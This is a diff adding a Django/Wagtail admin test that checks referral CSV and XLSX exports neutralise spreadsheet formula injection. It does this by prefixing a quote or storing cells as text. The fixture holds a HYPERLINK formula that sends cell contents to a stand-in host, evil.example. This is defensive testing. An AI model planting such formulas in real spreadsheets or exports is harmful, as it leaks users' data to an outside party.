@@ -201,6 +201,29 @@ class AdminTests(WagtailTestUtils, TestCase):
         self.assertIn("chloe@example.com", body)
         self.assertEqual(body.count("alice@example.com"), Referral.objects.count())
 
+    def test_referral_export_neutralises_cells_a_spreadsheet_would_run(self) -> None:
+        formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
+        referral_activity(self.program)
+        Program.objects.filter(pk=self.program.pk).update(name=formula)
+        Referral.objects.update(cancel_reason="@SUM(1+1)")
+        self.client.force_login(self.superuser)
+
+        export = self.client.get(REFERRALS, {"export": "csv"})
+        rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
+        self.assertTrue(rows)
+        for row in rows:
+            self.assertEqual(row["Program"], f"'{formula}")
+            self.assertEqual(row["Cancellation reason"], "'@SUM(1+1)")
+            self.assertFalse(row["Referee"].startswith("'"))  # plain cells untouched
+
+        from openpyxl import load_workbook
+
+        xlsx = self.client.get(REFERRALS, {"export": "xlsx"})
+        sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
+        cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == formula]
+        self.assertTrue(cells)
+        self.assertTrue(all(c.data_type == "s" for c in cells))  # text, never a formula
+
     def test_users_without_the_referral_permission_are_kept_out(self) -> None:
         editor = self.create_user("editor", email="editor@example.com")
         editor.user_permissions.add(Permission.objects.get(codename="access_admin"))
